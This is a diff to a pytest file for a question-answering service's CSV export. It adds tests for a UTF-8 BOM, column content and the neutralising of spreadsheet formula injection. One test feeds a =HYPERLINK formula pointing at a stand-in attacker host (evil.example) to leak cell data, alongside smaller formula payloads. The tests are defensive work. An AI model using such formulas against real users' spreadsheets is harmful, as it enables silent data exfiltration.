@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import codecs
 import csv
 import io
 from collections.abc import Iterator
@@ -13,7 +14,8 @@ from fastapi.testclient import TestClient
 from index.embedder import HashingEmbedder
 from qa_service.api.main import create_app
 from qa_service.config import Settings
-from qa_service.export import COLUMNS, safe_cell, to_csv
+from qa_service.export import COLUMNS, csv_response, safe_cell, to_csv
+from qa_service.schemas import AskResponse
 
 
 @pytest.fixture
@@ -30,6 +32,7 @@ def client(small_index: Path) -> Iterator[TestClient]:
         ("-2+3", "'-2+3"),
         ("@SUM(A1)", "'@SUM(A1)"),
         ("\t=1", "'\t=1"),
+        ("  =1+1", "'  =1+1"),
         ("Resolved = noted", "Resolved = noted"),
         ("", ""),
         (None, ""),
@@ -55,7 +58,9 @@ def _csv(response: object) -> list[dict[str, str]]:
     assert r.headers["content-type"] == "text/csv; charset=utf-8"  # type: ignore[attr-defined]
     disposition = r.headers["content-disposition"]  # type: ignore[attr-defined]
     assert disposition.startswith('attachment; filename="') and disposition.endswith('.csv"')
-    return list(csv.DictReader(io.StringIO(r.text)))  # type: ignore[attr-defined]
+    body: bytes = r.content  # type: ignore[attr-defined]
+    assert body.startswith(codecs.BOM_UTF8)  # Excel reads UTF-8 only with it
+    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
 
 
 def test_ask_as_csv_has_a_row_per_passage_with_its_citation(client: TestClient) -> None:
@@ -100,3 +105,43 @@ def test_decisions_timeline_and_compare_as_csv(client: TestClient) -> None:
 def test_a_bad_format_gets_422(client: TestClient) -> None:
     r = client.get("/api/decisions", params={"format": "xlsx"})
     assert r.status_code == 422 and "format" in r.json()["detail"]
+
+
+def test_ask_csv_carries_the_question_sentence_and_a_link_excel_can_open(
+    client: TestClient,
+) -> None:
+    body = {"question": "children missing from care", "top_k": 3}
+    passages = client.post("/api/ask", json=body).json()["passages"]
+    rows = _csv(client.post("/api/ask?format=csv", json=body))
+    assert [r["question"] for r in rows] == [body["question"]] * len(passages)
+    for row, p in zip(rows, passages, strict=True):
+        assert row["sentence"] and row["sentence"] in " ".join(p["text"].split())
+        assert row["sentence"] == " … ".join(
+            " ".join(p["text"][h["start"] : h["end"]].split()) for h in p["highlights"]
+        )
+        c = p["citation"]
+        assert row["link"] == (
+            f"http://testserver/documents/{c['document_id']}/passages/{p['passage_id']}"
+        )
+        assert client.get(row["link"], follow_redirects=False).status_code == 303
+        assert row["source_url"] == (c["url"] or "")
+
+
+def test_the_web_pages_csv_is_the_same_export(client: TestClient) -> None:
+    q = "children missing from care"
+    rows = _csv(client.get("/", params={"q": q, "format": "csv", "infer": "0"}))
+    assert rows and all(r["question"] == q and r["link"].startswith("http://") for r in rows)
+    rows = _csv(client.get("/compare", params={"q": q, "format": "csv"}))
+    assert rows and all(r["question"] == q and r["group"] for r in rows)
+
+
+def test_a_question_written_as_a_formula_is_neutralised(client: TestClient) -> None:
+    q = '=HYPERLINK("http://evil.example/?"&A1, "children missing from care")'
+    rows = _csv(client.post("/api/ask?format=csv", json={"question": q, "top_k": 2}))
+    assert rows and all(r["question"] == "'" + q for r in rows)
+
+
+def test_an_empty_answer_is_a_header_after_the_bom() -> None:
+    r = csv_response(AskResponse(question="£5k?", answered=False, passages=[]), "answer")
+    assert r.body.startswith(codecs.BOM_UTF8)
+    assert r.body.decode("utf-8-sig").splitlines() == [",".join(COLUMNS)]
